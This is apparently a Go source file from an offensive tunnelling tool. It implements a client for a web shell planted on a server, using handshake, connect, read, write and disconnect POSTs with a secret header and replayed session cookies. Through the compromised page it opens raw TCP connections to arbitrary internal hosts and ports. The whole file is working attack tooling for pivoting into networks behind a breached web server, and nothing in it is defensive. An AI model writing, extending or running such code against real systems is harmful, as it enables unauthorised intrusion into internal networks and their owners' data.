package agent

import (
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strconv"
	"strings"

	"github.com/google/uuid"
)

// Wire spoken to the deployed page. All three shell flavors implement the
// same server side; only the page suffix differs.
const (
	fieldAction = "a"
	fieldConn   = "c"
	fieldHost   = "h"
	fieldPort   = "p"
	fieldData   = "d"

	actionHandshake  = "handshake"
	actionConnect    = "connect"
	actionRead       = "read"
	actionWrite      = "write"
	actionDisconnect = "disconnect"

	headerSecret = "X-Secret"
	headerStatus = "X-Status"

	statusOK     = "OK"
	statusClosed = "CLOSED"
	statusFail   = "FAIL"
)

// webAgent drives one deployed web-shell page over form-encoded POSTs.
type webAgent struct {
	tag    string
	opts   Options
	client *http.Client
}

func newWebAgent(tag string, opts Options) (*webAgent, error) {
	client, err := newHTTPClient(opts)
	if err != nil {
		return nil, err
	}
	return &webAgent{tag: tag, opts: opts, client: client}, nil
}

func (a *webAgent) Identify() string { return a.tag }

func (a *webAgent) EstablishSession(ctx context.Context) (Session, error) {
	form := url.Values{fieldAction: {actionHandshake}}

	resp, body, err := a.roundTrip(ctx, "", form)
	if err != nil {
		return "", &Error{Kind: KindUnreachable, Op: "handshake", Err: err}
	}

	switch resp.StatusCode {
	case http.StatusUnauthorized, http.StatusForbidden:
		return "", &Error{Kind: KindAuthRejected, Op: "handshake", Err: fmt.Errorf("status %d", resp.StatusCode)}
	case http.StatusOK:
	default:
		return "", &Error{Kind: KindUnexpectedResponse, Op: "handshake", Err: fmt.Errorf("status %d", resp.StatusCode)}
	}

	if !strings.Contains(string(body), a.opts.AckMessage) {
		return "", &Error{Kind: KindUnexpectedResponse, Op: "handshake", Err: fmt.Errorf("ack message %q not found in response", a.opts.AckMessage)}
	}

	// The session is whatever cookie the remote container hands out
	// (PHPSESSID, JSESSIONID, ...). Replaying it verbatim keeps a load
	// balancer pinning us to the replica that owns our connection table.
	var cookies []string
	for _, c := range resp.Cookies() {
		cookies = append(cookies, c.Name+"="+c.Value)
	}
	return Session(strings.Join(cookies, "; ")), nil
}

func (a *webAgent) Open(ctx context.Context, sess Session, host string, port uint16) (ConnID, error) {
	id := ConnID(uuid.NewString())
	form := url.Values{
		fieldAction: {actionConnect},
		fieldConn:   {string(id)},
		fieldHost:   {host},
		fieldPort:   {strconv.Itoa(int(port))},
	}

	resp, _, err := a.roundTrip(ctx, sess, form)
	if err != nil {
		return "", &Error{Kind: KindUnreachable, Op: "open", Err: err}
	}
	if err := checkStatus(resp); err != nil {
		return "", &Error{Kind: KindConnectFailed, Op: "open", Err: err}
	}
	return id, nil
}

func (a *webAgent) Read(ctx context.Context, sess Session, id ConnID) ([]byte, error) {
	form := url.Values{
		fieldAction: {actionRead},
		fieldConn:   {string(id)},
	}

	resp, body, err := a.roundTrip(ctx, sess, form)
	if err != nil {
		return nil, &Error{Kind: KindUnreachable, Op: "read", Err: err}
	}

	var data []byte
	if len(body) > 0 {
		data, err = base64.StdEncoding.DecodeString(string(body))
		if err != nil {
			return nil, &Error{Kind: KindUnexpectedResponse, Op: "read", Err: err}
		}
	}

	switch resp.Header.Get(headerStatus) {
	case statusOK:
		return data, nil
	case statusClosed:
		return data, ErrConnClosed
	default:
		return nil, &Error{Kind: KindUnexpectedResponse, Op: "read", Err: statusErr(resp)}
	}
}

func (a *webAgent) Write(ctx context.Context, sess Session, id ConnID, data []byte) error {
	form := url.Values{
		fieldAction: {actionWrite},
		fieldConn:   {string(id)},
		fieldData:   {base64.StdEncoding.EncodeToString(data)},
	}

	resp, _, err := a.roundTrip(ctx, sess, form)
	if err != nil {
		return &Error{Kind: KindUnreachable, Op: "write", Err: err}
	}
	switch resp.Header.Get(headerStatus) {
	case statusOK:
		return nil
	case statusClosed:
		return ErrConnClosed
	default:
		return &Error{Kind: KindUnexpectedResponse, Op: "write", Err: statusErr(resp)}
	}
}

func (a *webAgent) Close(ctx context.Context, sess Session, id ConnID) error {
	form := url.Values{
		fieldAction: {actionDisconnect},
		fieldConn:   {string(id)},
	}

	// A disconnect for an id the remote side no longer knows still
	// answers OK, so closing twice is a no-op.
	resp, _, err := a.roundTrip(ctx, sess, form)
	if err != nil {
		return &Error{Kind: KindUnreachable, Op: "close", Err: err}
	}
	if err := checkStatus(resp); err != nil {
		return &Error{Kind: KindUnexpectedResponse, Op: "close", Err: err}
	}
	return nil
}

// roundTrip performs one form-encoded POST to the agent page and returns the
// response with its fully-read body.
func (a *webAgent) roundTrip(ctx context.Context, sess Session, form url.Values) (*http.Response, []byte, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, a.opts.URL, strings.NewReader(form.Encode()))
	if err != nil {
		return nil, nil, fmt.Errorf("build request: %w", err)
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")

	for name, values := range a.opts.Headers {
		for _, v := range values {
			req.Header.Add(name, v)
		}
	}
	if a.opts.Password != "" {
		req.Header.Set(headerSecret, a.opts.Password)
	}
	if sess != "" {
		req.Header.Set("Cookie", string(sess))
	}

	resp, err := a.client.Do(req)
	if err != nil {
		return nil, nil, err
	}
	defer resp.Body.Close()

	body, err := io.ReadAll(resp.Body)
	if err != nil {
		return nil, nil, fmt.Errorf("read response: %w", err)
	}
	return resp, body, nil
}

func checkStatus(resp *http.Response) error {
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("status %d", resp.StatusCode)
	}
	if s := resp.Header.Get(headerStatus); s != statusOK {
		return fmt.Errorf("agent status %q", s)
	}
	return nil
}

func statusErr(resp *http.Response) error {
	return fmt.Errorf("status %d, agent status %q", resp.StatusCode, resp.Header.Get(headerStatus))
}
